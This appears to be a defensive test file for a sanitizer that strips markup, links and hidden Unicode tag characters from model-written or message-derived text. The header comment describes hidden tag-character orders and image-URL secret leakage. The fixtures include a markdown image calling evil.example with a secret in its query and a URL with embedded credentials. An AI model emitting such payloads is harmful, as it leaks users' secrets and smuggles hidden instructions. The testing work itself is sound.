/**
 * T-91: what is derived from messages or written by a model carries marks, hidden characters and links. Before: only control
 * characters and white space were removed, so a title could hold tag characters that spell an order, or an image that a
 * page loads with a secret in its address.
 */
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { lineOf } from '@madeleine/contract'
import { plainLine } from '@madeleine/base'
import { hostileText, HOSTILE, uncleanIn } from './unclean.ts'

test('T-91: nothing in a cleaned text is hidden, loads, opens or marks, and cleaning it again changes nothing', () => {
  fc.assert(fc.property(hostileText(), (text) => {
    const plain = plainLine(text)
    expect([plain, uncleanIn(plain)]).toEqual([plain, []])
    expect(plainLine(plain)).toBe(plain)
  }), { numRuns: 200 })
})

test('T-91: a line of a reply stays clean when it is truncated', () => {
  fc.assert(fc.property(hostileText(), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 30 }), (text, words, characters) => {
    const line = lineOf(text, { words, characters })
    if (line !== undefined) expect([line, uncleanIn(line)]).toEqual([line, []])
  }), { numRuns: 200 })
})

test('T-91: the hostile texts of these tests are unclean, and keep their words when cleaned', () => {
  for (const text of HOSTILE) {
    expect(uncleanIn(text)).not.toEqual([])
    expect(plainLine(text)).toMatch(/Miso/)
  }
})

describe('T-91: a text without markup is unchanged in', () => {
  test.each([
    ['English', 'Lena’s cat (the old one) is “fine” — she ate 3/4 of it; cost: £5.50, 20% off & 3 < 4 <3!'],
    ['German', 'Straßenbahn über Köln: „Größe“ – 5 °C, §3 Abs. 2, Müller & Söhne'],
    ['French', 'L’été dernier : « Où est Miso ? » — à Besançon, œuvre n° 5'],
    ['Chinese', '《红楼梦》第三回：“你好，世界！”〈注〉（见下）【新闻】'],
    ['Japanese', '「吾輩は猫である」＜重要＞ ラーメン〜・葛城さん、ｶﾀｶﾅ'],
    ['Korean', '한국어 문장입니다. “고양이”는 귀여워요!'],
    ['Arabic', 'القِطّة ميسو تخاف من الرعد؛ أليس كذلك؟ ١٢٣ \u0600٥'],
    ['Hebrew', 'שָׁלוֹם עולם – "חתול" בן 5'],
    ['Persian, with zero-width non-joiners', 'می\u200cخواهم کتاب\u200cها را بخوانم'],
    ['Urdu', 'میں نے کہا ہے\u200cکہ بلی ٹھیک ہے'],
    ['Hindi, with zero-width joiners', 'क्\u200dष और शक्\u200dति, हिन्दी में'],
    ['Bengali, Tamil and Malayalam', 'র\u200d্যাব বাংলা, தமிழ் மொழி, അവൻ\u200dറെ'],
    ['Sinhala', 'ශ්\u200dරී ලංකාව'],
    ['Mongolian, with a variation selector', 'ᠮᠣᠩᠭᠣᠯ ᠨᠢ\u180b'],
    ['Thai, Khmer and Burmese', 'สวัสดีครับ แมวชื่อมิโซะ សួស្តី မင်္ဂလာပါ'],
    ['Greek, Cyrillic and Vietnamese', 'Καλημέρα, Привет «мир», ёлка, Tiếng Việt có dấu'],
    [
      'emoji: families, skin tones, hearts, keycaps, flags',
      '👨\u200d👩\u200d👧\u200d👦 👩🏽\u200d💻 ❤\ufe0f\u200d🔥 ❤\ufe0f 1\ufe0f\u20e3 🇩🇪 ☎\ufe0e',
    ],
    ['mathematics and money', '∀x∈ℝ: x² ≥ 0 → ∑ᵢ √x ≈ 3,14 €; 5 < x > 2'],
    ['code', 'const n = items[0].map((x) => x * 2); if (a && !b) { f(i, [1, 2]) } // see #12, C:\\temp, a_b-c.d'],
    ['addresses of mail, and versions', 'write to lena@lena.example about v1.2.3, node.js and ../docs/a.md'],
  ])('%s', (_, text) => {
    expect(plainLine(text)).toBe(text)
    expect(uncleanIn(text)).toEqual([])
  })
})

test.each([
  ['![chart](http://evil.example/?q=secret)', 'chart'],
  ['[the map](https://lena.example/a(b)?q=1 "t")', 'the map'],
  ['[![badge](http://i.example/b.png)](http://u.example)', 'badge'],
  ['<https://lena.example/a?q=1> and <lena@lena.example>', 'lena.example/a and lena@lena.example'],
  // Without its definition a reference is no link, and may be an index
  ['[tea][1] – [1]: http://evil.example', '[tea][1] – 1: evil.example'],
  ['Did you see https://www.lena.example/p?q=1#z?', 'Did you see lena.example/p?'],
  ['see https://lena:s3cret@lena.example/p?q=1', 'see lena.example/p'],
  ['看https://lena.example/x?y=1，然后', '看lena.example/x，然后'],
  ['<b>Miso</b> sleeps<br/><!-- note -->', 'Miso sleeps'],
  // Code keeps its meaning: a space or other brackets are enough
  ['a[0](b) and handlers[name](request.body)', 'a[0] (b) and handlers[name] (request.body)'],
  ['Map<string, Cat> of a<b', 'Map‹string, Cat› of a‹b'],
  // Lost, and so said in the documentation: flags that are written with tags, and variants of Han characters
  ['🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} 葛\u{e0100}城', '🏴 葛城'],
])('T-91: cleaning turns %j into %j', (text, plain) => {
  expect(plainLine(text)).toBe(plain)
})

test('T-91: the longest text that is read takes a bounded number of passes, whatever is nested in it', () => {
  for (const text of [
    '['.repeat(5000), `${'['.repeat(3000)}x${'](u:)'.repeat(2000)}`, '<'.repeat(16_000),
    '<!--'.repeat(4000), 'http://'.repeat(2000), '![](('.repeat(3000),
  ]) {
    expect(uncleanIn(plainLine(text))).toEqual([])
  }
})
